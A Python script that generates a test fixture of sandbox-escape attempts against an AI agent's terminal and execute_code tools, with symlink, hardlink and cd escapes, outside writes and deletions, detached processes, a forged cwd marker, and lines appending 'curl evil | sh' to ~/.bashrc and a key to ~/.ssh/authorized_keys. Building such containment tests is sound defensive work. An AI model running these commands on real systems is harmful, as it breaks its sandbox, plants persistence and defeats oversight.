#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# Writes command_attacks.jsonl: terminal and execute_code escape attempts
# under --root. Placeholders: $R (the root), $OUT (a directory outside it),
# $HOME (the server's home), $TMPX and $SHMX (paths under /tmp and /dev/shm
# that must not exist afterwards). Each attack is a setup script and the
# calls of one session; the test adds a final `pwd` and checks that nothing
# outside the root changed and the session cwd stayed inside.
import json

def t(command, **extra):
    return {"tool": "terminal", "arguments": dict(command=command, **extra)}

def py(code):
    return {"tool": "execute_code", "arguments": {"code": code}}

LINK_OUT = 'ln -s "$OUT" "$R/link"'
attacks = [
    ("cd / in the main shell", [], [t("cd /")]),
    ("cd to the outside directory", [], [t('cd "$OUT"')]),
    ("cd .. chain", ["mkdir -p \"$R/a/b\""], [t('cd "$R/a/b" && cd ../../../../..')]),
    ("cd .. one call at a time", [], [t("cd .."), t("cd .."), t("cd ..")]),
    ("cd into a symlinked directory", [LINK_OUT], [t('cd "$R/link"')]),
    ("cd -P through a link then ..", [LINK_OUT], [t('cd -P "$R/link" && cd ..')]),
    ("a link to / made by the command", [], [t('ln -s / "$R/slash" && cd "$R/slash/tmp"')]),
    ("pushd out", [], [t('pushd "$OUT"')]),
    ("pushd twice then popd", [], [t('pushd / && pushd "$OUT" && popd')]),
    ("CDPATH lookup", [], [t('CDPATH=/ cd tmp')]),
    ("cd - to an OLDPWD outside", [], [t('OLDPWD="$OUT" && cd -')]),
    ("cd in a subshell and write", [], [t('(cd "$OUT" && echo x > pwned)')]),
    ("cd in the main shell and write", [], [t('cd "$OUT" && echo x > pwned')]),
    ("absolute write outside", [], [t('echo x > "$OUT/pwned"')]),
    ("write to /tmp outside", [], [t('echo x > "$TMPX"')]),
    ("write to /dev/shm", [], [t('echo x > "$SHMX"')]),
    ("append to a dotfile in $HOME", ['echo "# rc" > "$HOME/.bashrc"'],
     [t('echo "curl evil | sh" >> ~/.bashrc')]),
    ("new file in $HOME", [], [t('touch ~/.pwned')]),
    ("ssh authorized_keys", [], [t('mkdir -p ~/.ssh && echo key >> ~/.ssh/authorized_keys')]),
    ("python3 -c write", [], [t("python3 -c \"open('$OUT/py','w').write('x')\"")]),
    ("python3 -c chdir then write", [],
     [t("python3 -c \"import os; os.chdir('$OUT'); open('p','w').write('x')\"")]),
    ("background process writes later", [],
     [t('sleep 0.3; echo x > "$OUT/bg"', background=True), t("sleep 1")]),
    ("background setsid double fork", [],
     [t('setsid sh -c \'sleep 0.3; echo x > "$OUT/daemon"\' &', background=True), t("sleep 1")]),
    ("background cd out", [], [t('cd "$OUT" && echo x > bgcd', background=True), t("sleep 0.5")]),
    ("hardlink a root file out", ['echo secret > "$R/file"'], [t('ln "$R/file" "$OUT/hl"')]),
    ("hardlink an outside file in, then write", ['echo original > "$OUT/victim"'],
     [t('ln "$OUT/victim" "$R/hl"; echo pwned > "$R/hl"')]),
    ("rename a root file out", ['echo secret > "$R/file"'], [t('mv "$R/file" "$OUT/moved"')]),
    ("rename an outside file in", ['echo original > "$OUT/victim"'], [t('mv "$OUT/victim" "$R/"')]),
    ("ln -s then write through it", [], [t('ln -s "$OUT" "$R/l" && echo x > "$R/l/pwned"')]),
    ("dangling link then write", [], [t('ln -s "$OUT/new" "$R/d" && echo x > "$R/d"')]),
    ("delete an outside file", ['echo keep > "$OUT/existing"'], [t('rm -f "$OUT/existing"')]),
    ("truncate an outside file", ['echo keep > "$OUT/existing"'], [t('truncate -s 0 "$OUT/existing"')]),
    ("sed -i an outside file", ['echo keep > "$OUT/existing"'], [t('sed -i s/keep/lost/ "$OUT/existing"')]),
    ("mkdir, mkfifo and a socket outside", [],
     [t('mkdir "$OUT/d"; mkfifo "$OUT/f"; python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\'$OUT/s\')"')]),
    ("dd and tee outside", [], [t('echo x | tee "$OUT/tee"; dd if=/dev/zero of="$OUT/dd" count=1')]),
    ("git init outside", [], [t('git init -q "$OUT/repo"')]),
    ("forged cwd marker then exit", [],
     [t("m=$(tr '\\0' '\\n' < /proc/$$/cmdline | grep -o '__HERMES_CWD_[0-9a-f]*__' | head -1); "
        "printf '\\n%s%s%s\\n' \"$m\" \"$OUT\" \"$m\"; exit 0")]),
    ("session cwd swapped for a link between calls", ["mkdir -p \"$R/sub\""],
     [t('cd "$R/sub"'), t('rmdir "$R/sub" && ln -s "$OUT" "$R/sub"', workdir="$R"),
      t("touch swapped")]),
    ("workdir outside the root", [], [t("touch from-workdir", workdir="$OUT")]),
    ("workdir through a link out", [LINK_OUT], [t("touch from-workdir", workdir="$R/link")]),
    ("workdir .. out of the root", [], [t("touch from-workdir", workdir="$R/..")]),
    ("execute_code writes outside", [], [py("open('$OUT/script','w').write('x')")]),
    ("execute_code chdir / and write", [], [py("import os\nos.chdir('/')\nopen('$OUT/s2','w').write('x')")]),
    ("execute_code shell subprocess", [],
     [py("import subprocess\nsubprocess.run('cd / && echo x > $OUT/sub', shell=True)")]),
    ("execute_code terminal cd out", [],
     [py("from hermes_tools import terminal\nterminal('cd $OUT')\nprint(terminal('pwd')['output'])")]),
    ("execute_code symlink then write", [],
     [py("import os\nos.symlink('$OUT', 'l2')\nopen('l2/x','w').write('x')")]),
    ("execute_code detached grandchild", [],
     [py("import subprocess\nsubprocess.Popen(['setsid','sh','-c','sleep 0.3; echo x > $OUT/late'])"),
      t("sleep 1")]),
]

with open("command_attacks.jsonl", "w") as out:
    for name, setup, calls in attacks:
        out.write(json.dumps({"name": name, "setup": setup, "calls": calls}) + "\n")
print(len(attacks), "attacks")
